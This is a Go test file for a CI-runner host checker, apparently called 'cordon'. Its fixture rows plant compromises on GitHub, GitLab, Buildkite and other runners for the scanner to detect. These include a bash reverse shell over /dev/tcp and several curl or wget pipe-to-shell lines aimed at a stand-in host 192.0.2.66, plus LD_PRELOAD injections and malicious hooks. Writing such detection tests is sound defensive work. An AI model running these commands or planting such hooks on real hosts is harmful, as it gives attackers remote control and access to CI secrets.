package check_test

import (
	"cordon/internal/check"
)

const evil = "192.0.2.66"

func plainFile(p, content string) func(*tree) {
	return func(tr *tree) { tr.file(p, content, 0o644) }
}

func program(p, content string) func(*tree) {
	return func(tr *tree) { tr.file(p, content, 0o755) }
}

func env(line string) func(*tree) { return func(tr *tree) { tr.more(ghHome+"/.env", line+"\n") } }

// gitlab adds an entry to the configuration, whose name is what the row says.
func gitlab(name, line string) func(*tree) {
	return func(tr *tree) {
		tr.more("/etc/gitlab-runner/config.toml", "[[runners]]\n  name = \""+name+"\"\n  url = \"https://gitlab.example.org\"\n  executor = \"docker\"\n"+line+"\n")
	}
}

func dropIn(name, text string) func(*tree) {
	return plainFile("/etc/systemd/system/"+ghUnitName+".d/"+name, "[Service]\n"+text+"\n")
}

// runnerRows are facts/host.md §1, the runner's own files and settings, and the first
// lines of §2.2, which are the same.
var runnerRows = []row{
	{"1.1 hook of started jobs", "job-hooks", check.Medium, ghHome + "/.env|ACTIONS_RUNNER_HOOK_JOB_STARTED", false, env("ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/hook.sh")},
	{"job-hooks of completed jobs", "job-hooks", check.High, ghHome + "/.env|ACTIONS_RUNNER_HOOK_JOB_COMPLETED", false, env("ACTIONS_RUNNER_HOOK_JOB_COMPLETED=/tmp/hook.sh")},
	{"1.1 container hooks", "job-hooks", check.Medium, ghHome + "/.env|ACTIONS_RUNNER_CONTAINER_HOOKS", false, env("ACTIONS_RUNNER_CONTAINER_HOOKS=/opt/hook.js")},
	{"action-archive-cache", "job-hooks", check.Medium, ghHome + "/.env|ACTIONS_RUNNER_ACTION_ARCHIVE_CACHE", false, env("ACTIONS_RUNNER_ACTION_ARCHIVE_CACHE=/opt/cache")},
	{"1.1 no TLS", "job-hooks", check.Medium, ghHome + "/.env|GITHUB_ACTIONS_RUNNER_TLS_NO_VERIFY", false, env("GITHUB_ACTIONS_RUNNER_TLS_NO_VERIFY=1")},
	{"1.1 run as root", "job-hooks", check.Medium, ghHome + "/.env|RUNNER_ALLOW_RUNASROOT", false, env("RUNNER_ALLOW_RUNASROOT=1")},
	{"1.1 unsecure commands", "job-hooks", check.Medium, ghHome + "/.env|ACTIONS_ALLOW_UNSECURE_COMMANDS", false, env("ACTIONS_ALLOW_UNSECURE_COMMANDS=true")},
	{"1.1 trace with secrets", "job-hooks", check.Medium, ghHome + "/.env|GITHUB_ACTIONS_RUNNER_HTTPTRACE", false, env("GITHUB_ACTIONS_RUNNER_HTTPTRACE=true")},
	{"1.1 proxy", "runner-files", check.Medium, ghHome + "/.env|https_proxy", false, env("https_proxy=http://" + evil + ":3128")},
	{"1.1 tool cache elsewhere", "runner-files", check.High, ghHome + "/.env|RUNNER_TOOL_CACHE", false, env("RUNNER_TOOL_CACHE=/dev/shm/tools")},
	{"env-loader LD_PRELOAD", "job-hooks", check.High, ghHome + "/.env|LD_PRELOAD", false, env("LD_PRELOAD=/opt/x.so")},
	{"env-loader NODE_OPTIONS", "job-hooks", check.High, ghHome + "/.env|NODE_OPTIONS", false, env("NODE_OPTIONS=--require /opt/x.js")},
	{"env-loader BASH_ENV", "job-hooks", check.High, ghHome + "/.env|BASH_ENV", false, env("BASH_ENV=/opt/x.sh")},
	{"path-hijack open directory", "job-hooks", check.Medium, ghHome + "/.path", false, plainFile(ghHome+"/.path", "/tmp/bin:/usr/bin\n")},
	{"path-hijack relative", "job-hooks", check.Medium, ghHome + "/.path", false, plainFile(ghHome+"/.path", "bin:/usr/bin\n")},
	{"1.1 template of run-helper", "job-hooks", check.High, "run-helper.sh.template", false, program(ghHome+"/run-helper.sh.template", "bash -i >& /dev/tcp/"+evil+"/443 0>&1 &\n")},
	{"1.1 runsvc.sh", "job-hooks", check.High, ghHome + "/runsvc.sh", false, program(ghHome+"/runsvc.sh", "curl -s https://"+evil+"/x | sh\n")},
	{"1.1 runsvc.sh with one line more", "runner-files", check.Medium, ghHome + "/runsvc.sh", false, program(ghHome+"/runsvc.sh", stockRunsvc+"/opt/agent &\n")},
	{"1.1 svc.sh of another service", "runner-files", check.Medium, ghHome + "/svc.sh", false, program(ghHome+"/svc.sh", "SVC_NAME=\"actions.runner.other.service\"\n")},
	{"1.1 safe_sleep.sh", "runner-files", check.High, "safe_sleep.sh", false, program(ghHome+"/safe_sleep.sh", "wget -qO- "+evil+" | bash\n")},
	{"1.1 script in place of the listener", "runner-files", check.High, "bin/Runner.Listener", false, program(ghHome+"/bin/Runner.Listener", "#!/bin/sh\n/bin/true\n")},
	{"1.1 monitor socket", "runner-files", check.Medium, ghHome + "/.runner", false, plainFile(ghHome+"/.runner", `{"agentId": 7, "agentName": "gh-1", "gitHubUrl": "https://github.example.org/acme", "monitorSocketAddress": "/tmp/m"}`)},
	{"1.1 root that anybody writes", "runner-files", check.High, "actions-runner", false, func(tr *tree) { tr.dir(ghHome, 0o777) }},
	{"1.1 program that anybody writes", "runner-files", check.High, "bin/Runner.Worker", false, func(tr *tree) { tr.file(ghHome+"/bin/Runner.Worker", "\x7fELF", 0o777) }},
	{"1.1 root of the jobs' account", "runner-files", check.Info, "actions-runner|jobs can change the runner", true, func(tr *tree) {
		tr.must(osChown(tr.root+ghHome, jobUser))
		tr.made = append(tr.made, ghHome)
	}},
	{"1.1 tool cache that anybody writes", "runner-files", check.Medium, "_work/_tool", false, func(tr *tree) { tr.dir(ghHome+"/_work/_tool", 0o777) }},
	{"1.1 hook script that jobs write", "runner-files", check.High, "/opt/jobhook.sh", true, func(tr *tree) {
		tr.more(ghHome+"/.env", "ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/jobhook.sh\n")
		tr.file("/opt/jobhook.sh", "/bin/true\n", 0o755)
		tr.must(osChown(tr.root+"/opt/jobhook.sh", jobUser))
	}},
	{"1.1 work directory used again", "runner-files", check.Info, "/_work$", false, func(tr *tree) { tr.dir(ghHome+"/_work/web/web/.git", 0o755) }},
	{"1.1 hook in a workspace", "developer-tools", check.Medium, "/_work/a/.git/hooks", false, program(ghHome+"/_work/a/.git/hooks/post-checkout", "/bin/true\n")},
	{"1.1 orphan with another tracking id", "orphans", check.High, "process 2001", false, func(tr *tree) {
		tr.process(2001, 1, jobUser, "sleep", "/usr/bin/sleep", "/system.slice/"+ghUnitName, []string{"RUNNER_TRACKING_ID=0", "GITHUB_RUN_ID=1"}, "sleep", "9")
	}},
	{"1.1 orphan without job variables", "orphans", check.High, "process 2002", false, func(tr *tree) {
		tr.process(2002, 1, jobUser, "x", "/usr/bin/sleep", "/system.slice/"+ghUnitName, nil, "sleep", "9")
	}},
	{"1.1 reader of the worker's memory", "worker-memory", check.Critical, "process 2003", false, func(tr *tree) {
		tr.process(2003, 910, jobUser, "python3", "/usr/bin/python3", "/system.slice/"+ghUnitName, nil, "python3", "m.py")
		tr.link("/proc/910/mem", "/proc/2003/fd/4")
	}},
	{"1.1 listener that is gone from the disk", "installations", check.High, "/bin/Runner.Listener", false, func(tr *tree) {
		tr.process(2004, 1, jobUser, "Runner.Listener", ghHome+"/bin/Runner.Listener (deleted)", "/x", nil, "Runner.Listener", "run")
	}},
	{"rogue-runner", "installations", check.High, ".dev-env", false, plainFile("/home/runner/.dev-env/.runner", `{"agentName": "SHA1HULUD", "gitHubUrl": "https://github.example.org/x/y"}`)},

	{"runner-unit LD_PRELOAD", "unit-dropins", check.High, "10-a.conf", false, dropIn("10-a.conf", "Environment=LD_PRELOAD=/opt/x.so")},
	{"runner-unit ExecStartPre", "unit-dropins", check.Medium, "11-b.conf", false, dropIn("11-b.conf", "ExecStartPre=/opt/x")},
	{"runner-unit EnvironmentFile", "unit-dropins", check.High, "12-c.conf", false, dropIn("12-c.conf", "EnvironmentFile=/opt/env")},
	{"runner-unit User", "unit-dropins", check.High, "13-d.conf", false, dropIn("13-d.conf", "User=root")},
	{"1.1 hook in the unit", "job-hooks", check.Medium, "14-e.conf", false, dropIn("14-e.conf", "Environment=ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/h.sh")},
	{"1.1 unit that starts something else", "unit-dropins", check.High, "/" + ghUnitName + "$", false, plainFile("/etc/systemd/system/"+ghUnitName, "[Service]\nExecStart=/opt/other\nUser=runner\nWorkingDirectory="+ghHome+"\n")},

	{"1.2 script before the build", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-01", false, gitlab("entry-01", `  pre_build_script = "curl -s `+evil+` | sh"`)},
	{"1.2 script after the sources", "job-hooks", check.Medium, "/etc/gitlab-runner/config.toml|entry-02", false, gitlab("entry-02", `  post_get_sources_script = "true"`)},
	{"1.2 environment", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-03", false, gitlab("entry-03", `  environment = ["LD_PRELOAD=/x.so"]`)},
	{"1.2 clone_url", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-04", false, gitlab("entry-04", `  clone_url = "https://`+evil+`"`)},
	{"1.2 privileged", "job-hooks", check.Medium, "/etc/gitlab-runner/config.toml|entry-05", false, gitlab("entry-05", "  [runners.docker]\n    privileged = true")},
	{"1.2 socket of docker", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-06", false, gitlab("entry-06", "  [runners.docker]\n    volumes = [\"/var/run/docker.sock:/var/run/docker.sock\"]")},
	{"1.2 helper image", "job-hooks", check.Medium, "/etc/gitlab-runner/config.toml|entry-07", false, gitlab("entry-07", "  [runners.docker]\n    helper_image = \"evil/helper\"")},
	{"1.2 namespaces of the host", "job-hooks", check.Medium, "/etc/gitlab-runner/config.toml|entry-08", false, gitlab("entry-08", "  [runners.docker]\n    network_mode = \"host\"")},
	{"1.2 custom executor", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-09", false, gitlab("entry-09", "  [runners.custom]\n    run_exec = \"/tmp/run\"")},
	{"1.2 host path in kubernetes", "job-hooks", check.High, "/etc/gitlab-runner/config.toml|entry-10", false, gitlab("entry-10", "  [runners.kubernetes]\n    [[runners.kubernetes.volumes.host_path]]\n      host_path = \"/\"\n      mount_path = \"/h\"")},
	{"1.2 environment file of the unit", "unit-dropins", check.High, "sysconfig/gitlab-runner", false, plainFile("/etc/sysconfig/gitlab-runner", "LD_PRELOAD=/opt/x.so\n")},
	{"1.2 second configuration", "installations", check.Medium, "/home/ir/.gitlab-runner", false, func(tr *tree) {
		tr.file("/home/ir/.gitlab-runner/config.toml", "[[runners]]\n  name = \"b\"\n  url = \"https://gitlab.example.org\"\n", 0o600)
	}},

	{"1.3 privileged", "runner-files", check.Medium, "/srv/act/config.yaml", false, func(tr *tree) {
		tr.file("/srv/act/.runner", `{"WARNING": "x", "id": 3, "uuid": "1-2", "name": "act", "address": "https://git.example.org"}`, 0o600)
		tr.file("/srv/act/config.yaml", "container:\n  privileged: true\n  docker_host: automount\n", 0o600)
	}},
	{"1.4 hook", "runner-files", check.Medium, "/etc/buildkite-agent/hooks/environment", false, program("/etc/buildkite-agent/hooks/environment", "#!/bin/bash\n/bin/true\n")},
	{"1.4 hook that phones home", "runner-files", check.High, "/etc/buildkite-agent/hooks/pre-exit", false, program("/etc/buildkite-agent/hooks/pre-exit", "curl "+evil+" | bash\n")},
	{"1.4 bootstrap script", "runner-files", check.Medium, "/etc/buildkite-agent/buildkite-agent.cfg", false, plainFile("/etc/buildkite-agent/buildkite-agent.cfg", "token=\"x\"\nbootstrap-script=\"/opt/b\"\n")},
	{"1.5 any certificate", "runner-files", check.Medium, "process 2010", false, func(tr *tree) {
		tr.process(2010, 1, 1001, "java", "/usr/bin/java", "/system.slice/j.service", nil, "java", "-jar", "agent.jar", "-url", "https://j.example.org", "-noCertificateCheck")
	}},
	{"1.6 orphan of Azure's agent", "orphans", check.High, "process 2011", false, func(tr *tree) {
		tr.process(2011, 1, jobUser, "sleep", "/usr/bin/sleep", "/x", []string{"VSTS_PROCESS_LOOKUP_ID=0"}, "sleep", "9")
	}},
}
